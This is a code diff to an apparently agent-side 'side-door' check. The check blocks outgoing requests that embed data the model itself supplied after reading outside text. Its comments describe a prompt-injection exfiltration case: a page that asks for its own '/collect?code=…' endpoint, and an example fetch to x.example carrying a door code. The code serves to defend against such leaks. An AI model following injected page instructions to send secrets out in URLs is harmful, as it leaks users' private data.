@@ -3,10 +3,12 @@ import type { Send } from "../effects.js";
 
 /**
  * The side-door rule: once outside text entered a turn, a request goes out only
- * - to a site the person's own words name (its host is in their message), or
+ * - to a URL the person's own words spell out whole in this turn (then it may carry what they asked), or
  * - to a URL exactly as the outside text spelled it (a link on the page, a search result), with nothing
  *   of the call's own added: no path or query the text did not hold, and no body or header value that
  *   neither the outside text nor the person's words hold.
+ * Naming a site is not enough: the page the person gave may itself ask for its own site's
+ * "/collect?code=…".
  * So a page can be followed link by link, but "fetch https://x.example/?code=<the door code>" sends nothing:
  * that URL is written by the model, not by the page. Answers what would leave and why, or undefined.
  */
@@ -17,23 +19,21 @@ export function sideDoor(send: Send, provenance: TurnProvenance): string | undef
   } catch {
     return undefined; // the tool refuses a URL it cannot read
   }
-  const words = provenance.ownWords.toLowerCase();
+  const words = readable(provenance.ownWords);
   const outside = readable(provenance.outsideText());
-  const host = url.hostname.toLowerCase();
-  const personsSite = host !== "" && words.includes(host);
   const carried = (send.carries ?? []).filter((value) => value.trim() !== "");
   const unexplained = carried.filter(
     (value) => !outside.includes(readable(value)) && !words.includes(value.toLowerCase()),
   );
-  if (personsSite) return undefined;
+  if (spelledOut(send.url, url, words)) return undefined;
   if (!spelledOut(send.url, url, outside)) {
     return (
-      `${url.origin} was not named by the person, and this URL (${clipUrl(url)}) is not a link that the text ` +
-      "read in this turn gives as it stands: the call would put data of its own into it"
+      `the person did not give this URL (${clipUrl(url)}), and it is not a link that the text read in this ` +
+      "turn gives as it stands: the call would put data of its own into it"
     );
   }
   if (unexplained.length) {
-    return `${url.origin} was not named by the person, and the request would carry data that the text read in this turn does not hold`;
+    return "the person did not give this URL, and the request would carry data that the text read in this turn does not hold";
   }
   return undefined;
 }
